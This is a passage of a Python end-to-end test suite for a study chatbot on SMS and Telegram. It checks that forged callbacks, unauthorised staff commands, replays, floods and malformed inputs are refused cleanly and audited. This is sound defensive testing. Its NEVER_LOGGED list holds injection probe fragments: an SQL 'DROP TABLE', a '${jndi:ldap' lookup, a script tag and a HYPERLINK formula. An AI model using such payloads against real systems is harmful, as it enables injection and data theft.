    with h.app.database.read() as connection:
        rows = connection.execute(
            select(outbox_t.c.buttons).where(outbox_t.c.participant_id == person.participant().id).order_by(outbox_t.c.id)
        ).scalars().all()  # fmt: skip
    return [[b["token"] for b in row] for row in rows if row]


def buttons_items(h: Harness) -> None:
    h.item(49)
    p = h.person("stale button", "joined")  # the agree question's buttons are now stale
    stale = _tokens(h, p)[0][0]
    sent = p.update(lambda u, c: callback_update(u, c, stale, 1), stored=stale)
    h.later("stale press changes nothing", _both(_first_reply_starts(p, sent, STALE), _state_is(p, "prescreen.intro")))
    h.item(50)
    p = h.person("double tap", "joined")
    current = _tokens(h, p)[-1][0]  # "Yes" to "Would you like to start?"
    first = p.update(lambda u, c: callback_update(u, c, current, 9, callback_id="tap-1"), stored=current)
    second = p.update(lambda u, c: callback_update(u, c, current, 9, callback_id="tap-1"), stored=current)

    def one_effect(p: Person = p, first: Sent = first, second: Sent = second) -> None:
        _assert(h.replies(first) == ["How old are you?"], f"first press: {h.replies(first)}")
        _first_reply_starts(p, second, STALE)()
        _assert(p.patient.turn(None).state == "prescreen.question", "state moved twice")

    h.later("one effect", one_effect)
    h.item(51)
    owner, thief = h.person("button owner", "joined"), h.person("button thief", "joined")
    stolen = _tokens(h, owner)[-1][0]
    for data in (stolen, "x" * 100, "\udcff\udcfe", ""):
        forged = thief.update(_press(data), stored=None)
        h.later(f"forged callback {data[:10]!a}", _first_reply_starts(thief, forged, STALE))
    h.later(
        "nobody moved",
        lambda: _assert(
            {owner.patient.turn(None).state, thief.patient.turn(None).state} == {"prescreen.intro"}, "moved"
        ),
    )


def staff_items(h: Harness) -> None:
    """A staff-group button pressed by a stranger, and a command from an anonymous admin: refused and audited."""
    stranger = h.update_id()
    response = h.post_update(callback_update(stranger, STAFF_CHAT, "any-token", 5, user_id=999_999_999))
    h.record(Sent("§5 #52 stranger presses a staff button [telegram]", "telegram", str(stranger), response, "ignored"))
    anonymous = h.update_id()
    update = group_text_update(anonymous, STAFF_CHAT, "/ack 1", user_id=1087968824)
    update["message"]["sender_chat"] = {"id": STAFF_CHAT, "title": "Study staff", "type": "supergroup"}
    response = h.post_update(update)
    h.record(Sent("§5 #52 anonymous admin command [telegram]", "telegram", str(anonymous), response, "ignored"))
    allowed = h.update_id()  # an allow-listed member with a made-up token: refused as an unknown button
    response = h.post_update(callback_update(allowed, STAFF_CHAT, "made-up", 5, user_id=STAFF_USER))
    h.record(Sent("§5 #52 unknown staff button [telegram]", "telegram", str(allowed), response, "ignored"))

    def refused_and_audited() -> None:
        # Staff actions run in the background after the 200: wait for their audit entries.
        wait_until(lambda: _count_where(h.app, audit_t, audit_t.c.action == "staff_action_refused") >= 3)
        with h.app.database.read() as connection:
            refusals = connection.execute(
                select(audit_t.c.new).where(audit_t.c.action == "staff_action_refused")
            ).scalars().all()  # fmt: skip
        reasons = sorted(r["reason"] for r in refusals)
        _assert(reasons == ["not on the staff list", "not on the staff list", "unknown button"], f"audit: {reasons}")
        _assert(_acknowledged(h.app) == 0, "an escalation was acknowledged")

    h.later("refused and audited", refused_and_audited)


def delivery_items(h: Harness) -> None:
    h.item(55)
    p = h.person("same provider id 3× sequentially, 3× concurrently")
    for concurrent in (False, True):
        first = p.say("HELP")
        again = _replay(h, p, first, "HELP", concurrent=concurrent)
        h.later(f"one row (concurrent={concurrent})", _both(_stored_once(h, first), _all_ok(again)))
    if h.channel == "sms":
        h.item(56)
        p = h.person("same MessageSid, new idempotency token")
        sid = h.sid()
        params = inbound_sms_params(
            p.address, OUR_NUMBER, "HELP", message_sid=sid, account_sid=h.stack.twilio.account_sid
        )
        for token in ("token-a", "token-b", "token-a"):
            response = post_signed(f"{PUBLIC}/twilio/sms", h.stack.web.url, params, h.stack.twilio.auth_token,
                                   headers={"I-Twilio-Idempotency-Token": token})  # fmt: skip
            h.record(Sent(f"{p.label} {token}", "sms", sid, response, stored="HELP"))
        h.later("deduplicated on MessageSid", _stored_once(h, h.sent[-1]))
    h.item(57)
    p = h.person("two ids, same text")
    one, two = p.say("HELP"), p.say("HELP")
    h.later("both stored and answered", lambda: _assert(h.replies(one) and h.replies(two), "one was dropped"))
    h.item(58)
    p = h.person("out of order", "joined")
    if h.channel == "telegram":
        earlier_id, later_id = h.update_id(), h.update_id()
        r1 = h.post_update(text_update(later_id, int(p.address), "52"))  # update n+1 arrives before n
        r2 = h.post_update(text_update(earlier_id, int(p.address), "yes"))
        a = h.record(Sent(f"{p.label} n+1", "telegram", str(later_id), r1, stored="52"))
        b = h.record(Sent(f"{p.label} n", "telegram", str(earlier_id), r2, stored="yes"))
    else:
        a, b = p.say("52"), p.say("yes")  # the answer to the second question arrives first

    def arrival_order(p: Person = p, a: Sent = a, b: Sent = b) -> None:
        _assert(h.inbound(a)[0].id < h.inbound(b)[0].id, "not processed in arrival order")
        _assert(not any("answer_recorded" in e for e in p.patient.turn(h.inbound(a)[0].id).events), "silent advance")
        _assert(h.replies(b) == ["How old are you?"], f"then the real answer: {h.replies(b)}")

    h.later("arrival order, no silent advance", arrival_order)
    if h.channel == "sms":
        h.item(59)
        p = h.person("status callbacks")
        sent59 = p.say("HELP")

        def callbacks() -> None:
            with h.app.database.read() as connection:
                row = connection.execute(
                    select(outbox_t).where(outbox_t.c.inbound_id == h.inbound(sent59)[0].id).order_by(outbox_t.c.id)
                ).first()
            assert row is not None, "no reply to HELP"
            base = h.stack.web.url
            assert h.stack.twilio.send_status(row.provider_message_id, "delivered", callback_base=base) == 204
            assert h.stack.twilio.send_status(row.provider_message_id, "sent", callback_base=base) == 204
            unknown = post_signed(f"{PUBLIC}/twilio/status?oid=999999", base, [("MessageSid", "SM" + "f" * 32),
                                  ("MessageStatus", "delivered"), ("AccountSid", h.stack.twilio.account_sid)],
                                  h.stack.twilio.auth_token)  # fmt: skip
            _assert(unknown.status_code == 204, f"unknown oid answered {unknown.status_code}")
            with h.app.database.read() as connection:
                status = connection.execute(select(outbox_t.c.status).where(outbox_t.c.id == row.id)).scalar_one()
            _assert(status == "delivered", f"moved back to {status}")

        h.later("monotonic, unknown ids answered", callbacks)
        h.item(60)
        p = h.person("valid signature, foreign account or number", "fresh")
        for account, to in (("AC" + "1" * 32, OUR_NUMBER), (h.stack.twilio.account_sid, "+15550000000")):
            sid = h.sid()
            params = inbound_sms_params(p.address, to, "Hi", message_sid=sid, account_sid=account)
            response = post_signed(f"{PUBLIC}/twilio/sms", h.stack.web.url, params, h.stack.twilio.auth_token)
            h.record(Sent(f"{p.label} {account[:4]} {to}", "sms", sid, response, "refused", status=(403,)))
        h.people.remove(p)  # never became a participant
    else:
        h.item(60)  # no account or destination number in an update: the nearest thing is a wrong secret
        update_id = h.update_id()
        response = h.post_update(text_update(update_id, 780_999, "Hi"), secret="wrong")
        h.record(Sent("§5 #60 wrong secret [telegram]", "telegram", str(update_id), response, "refused", status=(403,)))
        h.item(61)
        p = h.person("update_id jumps")
        for update_id in (987_654_321, 12, 2**31 - 1):
            r = h.post_update(text_update(update_id, int(p.address), "HELP"))
            h.record(Sent(f"{p.label} {update_id}", "telegram", str(update_id), r, stored="HELP"))
    h.item(62)
    stranger = h.person("unknown number", "fresh")
    who = stranger.say("who is this?")
    h.later("a minimal first answer", lambda: _assert(all("diabetes" not in r.lower() for r in h.replies(who)), "PHI"))
    recycled = h.person("recycled number", "joined")
    recycled.say("who is this?")
    # An auto-responder: 30 messages in a few seconds. All are stored and safety-checked; the first LIMIT are
    # answered, the next gets the one note that replies pause, and the rest get nothing (bot/flood.py).
    # An inbound racing a reminder in the same minute is not driven here (it needs the scheduler's sweep).
    h.item(63)
    p = h.person("30 messages at once")
    h.paced = False
    for number in range(30):
        p.say(f"auto-reply {number}: I am away from my phone", replies="some" if number <= LIMIT else "none")
    h.paced = True
    h.later("replies paused once, with one note", lambda: _paused_once(p))


def _paused_once(person: Person) -> None:
    who = person.participant().id
    with person.harness.app.database.read() as connection:
        actions = list(connection.execute(select(audit_t.c.action).where(audit_t.c.participant_id == who)).scalars())
        bodies = list(connection.execute(select(outbox_t.c.body).where(outbox_t.c.participant_id == who)).scalars())
    _assert(actions.count("replies_paused") == 1, f"replies_paused audited {actions.count('replies_paused')} times")
    notes = [b for b in bodies if b.startswith("You sent many messages")]
    _assert(len(notes) == 1, f"{len(notes)} pause notes")


def _replay(h: Harness, person: Person, first: Sent, text: str, *, concurrent: bool) -> list[httpx.Response]:
    def again() -> httpx.Response:
        if h.channel == "sms":
            return h.stack.sms(person.address, text, sid=first.provider_id)
        return h.post_update(text_update(int(first.provider_id or 0), int(person.address), text))

    if not concurrent:
        return [again() for _ in range(3)]
    responses: list[httpx.Response] = []
    threads = [threading.Thread(target=lambda: responses.append(again())) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return responses


def bad_inputs_over_http(h: Harness) -> None:
    """tests/pipeline/test_bad_input.py runs BAD_INPUTS through the pipeline only; here every one of them
    went through the channel's HTTP ingress, inside the §5 items above."""
    h.item(0)
    missing = set(BAD_INPUTS) - BAD.used
    h.later("every BAD_INPUTS entry was sent", lambda: _assert(not missing, f"not sent: {sorted(missing)}"))


def _count(app: App, table: Any) -> int:
    with app.database.read() as connection:
        return int(connection.execute(select(func.count()).select_from(table)).scalar_one())


def _count_where(app: App, table: Any, condition: Any) -> int:
    with app.database.read() as connection:
        return int(connection.execute(select(func.count()).select_from(table).where(condition)).scalar_one())


def _escalations(app: App, person: Person) -> list[str]:
    with app.database.read() as connection:
        return list(
            connection.execute(
                select(escalation_t.c.category).where(escalation_t.c.participant_id == person.participant().id)
            ).scalars()
        )


def _acknowledged(app: App) -> int:
    with app.database.read() as connection:
        return int(
            connection.execute(
                select(func.count()).select_from(escalation_t).where(escalation_t.c.acknowledged_at.is_not(None))
            ).scalar_one()
        )


DRIVERS = [size_and_shape, unicode_items, injection_items, keyword_items, answer_items, platform_items,
           delivery_items, bad_inputs_over_http]  # fmt: skip
# Distinctive inputs that must never reach a log line (§5 (d); the full PHI canary is tests/e2e/test_phi_canary.py).
NEVER_LOGGED = ["DROP TABLE participant", "${jndi:ldap", "<script>alert(1)</script>", "2026-01-01 INFO staff acked",
                "pat¡example.com", "I am away from my phone", "HYPERLINK"]  # fmt: skip


@pytest.fixture
def captured_logs() -> Iterator[io.StringIO]:
    """Everything logged at INFO and up (production never runs at DEBUG), through the production redacting filter."""
    captured = io.StringIO()
    handler = logging.StreamHandler(captured)
    handler.addFilter(RedactingFilter())
    root = logging.getLogger()
    old = root.level, {name: logging.getLogger(name).level for name in NOISY}
    root.addHandler(handler)
    root.setLevel(logging.INFO)
    for name in NOISY:
        logging.getLogger(name).setLevel(logging.WARNING)
    yield captured
    root.removeHandler(handler)
    root.setLevel(old[0])
    for name, level in old[1].items():
        logging.getLogger(name).setLevel(level)


@pytest.mark.parametrize("channel", ["sms", "telegram"])
def test_every_nasty_input_gets_a_clear_answer_or_a_clean_refusal(
    stack: Stack, channel: str, captured_logs: io.StringIO, http: httpx.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bot.channels.telegram.OVERALL_GAP", 0.0)  # pacing is tested in tests/e2e
    BAD.used.clear()
    harness = Harness(stack, channel, http)
    for drive in DRIVERS:
        drive(harness)
    stack.settle(timeout=90)
    problems = harness.problems()
    assert problems == [], "\n".join(problems)
    skipped = {n for (c, n) in NOT_DRIVABLE if c == channel}
    assert harness.covered | skipped >= set(ITEMS), (
        f"items neither driven nor explained: {set(ITEMS) - harness.covered - skipped}"
    )
    assert not harness.covered & skipped, "an item is both driven and listed as not drivable"
    logged = captured_logs.getvalue()
    assert [s for s in NEVER_LOGGED if s in logged] == []


# -------------------------------------------------------------------------------------------------
# The Big List of Naughty Strings through both channels' ingress
# -------------------------------------------------------------------------------------------------


def test_naughty_strings_survive_both_channels_ingress_unchanged(stack: Stack) -> None:
    """tests/pipeline/test_bad_input.py sends the Big List of Naughty Strings (TRIALBOT_BLNS) through the
    pipeline, but not through a channel. Here every string goes through each channel's own decoding, as the
    webhooks run it (no HTTP, to keep it fast; the HTTP path is the test above): a Twilio form signed over the
    public URL must pass `verify` and read back as exactly the same Body; a Telegram update (JSON with ASCII
    escapes) must read back as exactly the same text."""
    strings = _corpus()
    sms, telegram = stack.server.sms, stack.server.telegram
    assert sms is not None
    assert telegram is not None
    now = stack.clock.now()
    wrong: list[str] = []
    for number, text in enumerate(strings):
        params = inbound_sms_params("+15550790001", OUR_NUMBER, text, account_sid=stack.twilio.account_sid)
        body, headers = twilio_webhook_form(f"{PUBLIC}/twilio/sms", params, stack.twilio.auth_token)
        form = parse_form(body)
        sms.verify("/twilio/sms", "", form, headers["X-Twilio-Signature"])
        if sms.inbound(form, now).text != text:
            wrong.append(f"sms #{number}: {text!r}")
        update = json.loads(json.dumps(text_update(number + 1, 790_001, text)))
        message = telegram.parse(update, now).message
        commands = ("/start", "/stop", "/help", "/language", "/idioma")  # read as keywords, on purpose
        if message is None or (message.text != text and not text.lower().startswith(commands)):
            wrong.append(f"telegram #{number}: {text!r}")
    assert wrong == []


def _corpus() -> list[str]:
    from tests.pipeline.test_bad_input import CORPUS

    if not CORPUS.is_file():
        pytest.skip(f"the naughty-strings corpus is not at {CORPUS} (set TRIALBOT_BLNS)")
    strings = json.loads(CORPUS.read_text(encoding="utf-8"))
    assert len(strings) >= 500
    return [str(s) for s in strings]
